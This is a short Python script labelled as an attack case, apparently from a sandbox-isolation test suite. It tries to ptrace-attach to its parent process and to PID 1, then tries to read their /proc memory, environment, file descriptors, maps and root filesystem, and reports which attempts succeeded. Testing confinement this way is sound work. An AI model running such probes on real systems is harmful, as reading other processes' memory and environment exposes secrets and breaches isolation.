# attack: attach to the worker with ptrace, read its memory, descriptors and environment
# modes: strong
# %%
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
opened = []
for target in {parent, 1}:
    if libc.ptrace(16, target, None, None) == 0:  # PTRACE_ATTACH
        opened.append("ptrace%d" % target)
    for name in ("mem", "environ", "fd/0", "fd/1", "maps", "root/etc/hostname", "cwd"):
        try:
            with open("/proc/%d/%s" % (target, name), "rb") as handle:
                handle.read(16)
            opened.append("%d/%s" % (target, name))
        except OSError:
            pass
raise RuntimeError("REPORT opened=%s" % ",".join(opened))
